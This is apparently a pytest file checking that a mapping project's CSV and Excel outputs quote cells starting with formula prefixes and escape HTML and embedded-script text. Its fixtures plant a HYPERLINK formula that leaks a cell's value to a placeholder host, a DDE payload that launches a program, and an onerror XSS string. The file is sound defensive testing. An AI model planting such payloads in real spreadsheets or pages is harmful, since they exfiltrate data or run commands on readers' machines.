"""Text from the data is shown, never run: spreadsheet formulas (CSV and Excel) and HTML.

The map's side is checked in a browser in ``test_maps.py``; here the helpers and the
spreadsheets a run writes, with hostile names in every text column.
"""

from __future__ import annotations

import copy
import csv
import dataclasses
from pathlib import Path

import pandas as pd
import pytest

from coverage15.outputs._safe_text import (
    FORMULA_PREFIXES,
    html_text,
    neutralise_cell,
    neutralise_frame,
    script_json,
)
from coverage15.outputs.writers import write_csv, write_excel

PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
assert tuple(PREFIXES) == FORMULA_PREFIXES


def _formula(prefix: str, text: str) -> str:
    """A hostile cell: a formula (after ``prefix``) that leaks the row's other cells."""
    return f'{prefix}HYPERLINK("http://example.invalid/?leak="&B2,"{text}")'


# --- the helpers ---------------------------------------------------------------------------


@pytest.mark.parametrize("prefix", PREFIXES)
def test_a_formula_prefix_gets_a_quote(prefix: str):
    assert neutralise_cell(f"{prefix}1+1") == f"'{prefix}1+1"


def test_other_values_are_kept():
    for value in ("外滩街道", "", " =1+1", "'=1", "a=b", "＝1+1", -5, -1.5, 0, None, True):
        assert neutralise_cell(value) is value
    assert pd.isna(neutralise_cell(float("nan")))


def test_a_frame_without_formulas_is_returned_as_it_is():
    frame = pd.DataFrame({"name": ["外滩街道", None], "n": [-5, 3], "x": [-1.5, 2.0]})
    assert neutralise_frame(frame) is frame


def test_a_frame_is_neutralised_in_text_only():
    frame = pd.DataFrame({"name": ["=1+1", "外滩街道"], "n": [-5, 3],
                          "mixed": pd.Series(["-2", -2], dtype=object),
                          "s": pd.Series(["@x", None], dtype="string"),
                          "c": pd.Series(["+1", "b"], dtype="category"),
                          "=col": [1, 2]})
    out = neutralise_frame(frame)
    assert out is not frame
    assert frame.loc[0, "name"] == "=1+1"  # the input is kept
    assert list(out.columns) == ["name", "n", "mixed", "s", "c", "'=col"]
    assert out["name"].tolist() == ["'=1+1", "外滩街道"]
    assert out["n"].tolist() == [-5, 3]
    assert out["n"].dtype == frame["n"].dtype
    assert out["mixed"].tolist() == ["'-2", -2]  # the text "-2" is quoted; the number is not
    assert out["s"].dtype == frame["s"].dtype
    assert out["s"].iloc[0] == "'@x"
    assert pd.isna(out["s"].iloc[1])
    assert out["c"].tolist() == ["'+1", "b"]


def test_html_text_and_script_json():
    assert html_text('<img src=x onerror="a()">\'&') == (
        "&lt;img src=x onerror=&quot;a()&quot;&gt;&#x27;&amp;")
    text = script_json({"name": "</script><!--<script>\u2028\u2029&"})
    for bad in ("</", "<!--", "<script", "\u2028", "\u2029", "&"):
        assert bad not in text
    import json

    assert json.loads(text) == {"name": "</script><!--<script>\u2028\u2029&"}


# --- a run's spreadsheets ------------------------------------------------------------------


def _text_columns(frame: pd.DataFrame) -> list[str]:
    return [c for c in frame.columns if frame[c].map(lambda v: isinstance(v, str)).any()]


def _poison(frame: pd.DataFrame) -> tuple[pd.DataFrame, dict[str, set[str]]]:
    """Rows 0–5 of every text column start with each formula prefix in turn.

    Returns the table and, by column, the values planted.
    """
    out = frame.copy().reset_index(drop=True)
    planted: dict[str, set[str]] = {}
    for j, column in enumerate(_text_columns(frame)):
        out[column] = out[column].astype(object)
        for i in range(len(PREFIXES)):  # every prefix in every column, in other rows
            value = _formula(PREFIXES[(i + j) % len(PREFIXES)], str(out.loc[i, column]))
            out.loc[i, column] = value
            planted.setdefault(column, set()).add(value)
    return out, planted


@pytest.fixture(scope="module")
def hostile_run(central_run):
    """The central run with formulas in every text column of its reports and labels."""
    result = copy.copy(central_run)
    gap, planted = _poison(central_run.gap_report)
    # what the workbook shows as cells: not the English reason (原因 is reason_zh), nor the
    # district (each district's 街镇 are on a sheet named after it)
    shown = {v for column, values in planted.items() if column not in ("reason", "district")
             for v in values}
    gap.loc[0, "demand_points"] = -5  # negative numbers stay numbers
    gap.loc[1, "area_km2"] = -1.5
    result.gap_report = gap
    result.district_report, planted = _poison(central_run.district_report)
    shown |= {v for column, values in planted.items() if column != "reason" for v in values}
    # the 汇总 sheet's list of uncovered 街镇 of a district starts with a name
    result.district_report.loc[7, "uncovered_jiezhen"] = "=1+1、外滩街道"
    result.rejected, _ = _poison(central_run.rejected)
    rule = central_run.rules[0]
    label = _formula("=", rule.label)
    result.rules = [dataclasses.replace(rule, label=label), *central_run.rules[1:]]
    check = central_run.check
    reason = "@SUM(1+1)*cmd|' /C calc'!A0"
    result.check = dataclasses.replace(check, citywide=[
        dataclasses.replace(c, reason=reason, reason_zh=reason)  # the 汇总 sheet shows _zh
        for c in check.citywide])
    result.shown = shown | {"=1+1、外滩街道"} | ({reason} if check.citywide else set())
    return result


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


@pytest.mark.parametrize("table", ["gap_report", "district_report", "rejected"])
def test_csv_cells_are_never_formulas(hostile_run, table: str, tmp_path: Path):
    frame = getattr(hostile_run, table)
    path = write_csv(frame, tmp_path / f"{table}.csv")
    rows = _csv_rows(path)
    text = _text_columns(frame)
    assert len(text) >= 3
    for column in text:
        for row in rows:
            cell = row[column]
            assert not cell.startswith(FORMULA_PREFIXES), (column, cell)
        for value in frame[column]:
            if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
                assert any(row[column] == "'" + value for row in rows), (column, value)
    # every prefix was planted in every text column, and came back quoted
    for column in text:
        quoted = {row[column][1] for row in rows if row[column].startswith("'")}
        assert quoted == set(PREFIXES), column
    # numbers are numbers, negative ones too
    back = pd.read_csv(path)
    numeric = [c for c in frame.columns if frame[c].dtype.kind in "iuf"]
    assert numeric
    for column in numeric:
        assert back[column].dtype.kind in "iuf", column
    if table == "gap_report":
        assert back.loc[0, "demand_points"] == -5
        assert back.loc[1, "area_km2"] == -1.5


def test_workbook_cells_are_never_formulas(hostile_run, tmp_path: Path):
    from openpyxl import load_workbook

    path = write_excel(hostile_run, tmp_path / "gap_report.xlsx")
    book = load_workbook(path)
    strings = set()
    numbers = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_PREFIXES), (
                        sheet.title, cell.coordinate, cell.value)
                    strings.add(cell.value)
                elif isinstance(cell.value, int | float):
                    numbers.append(cell.value)
    # (a carriage return comes back from the workbook's XML as a line feed)
    missing = {v for v in hostile_run.shown if "'" + v.replace("\r", "\n") not in strings}
    assert not missing, sorted(missing)
    # the rule's label, quoted, also heads its columns
    assert any(s.startswith("'=HYPERLINK") and "达标" in s for s in strings)
    assert -5 in numbers
    assert -1.5 in numbers
    # a district named by a formula still has its sheet (a sheet name is not a cell)
    assert any(s.startswith("=HYPERLINK") for s in book.sheetnames)


def test_real_reports_need_no_quote(central_outputs: Path):
    """The real central run has no cell a spreadsheet would run: its files are unchanged."""
    for name in ("gap_report.csv", "district_report.csv", "rejected.csv", "problems.csv"):
        with (central_outputs / name).open(encoding="utf-8-sig", newline="") as f:
            for row in csv.reader(f):
                assert not any(c.startswith(("'", *FORMULA_PREFIXES)) for c in row), name
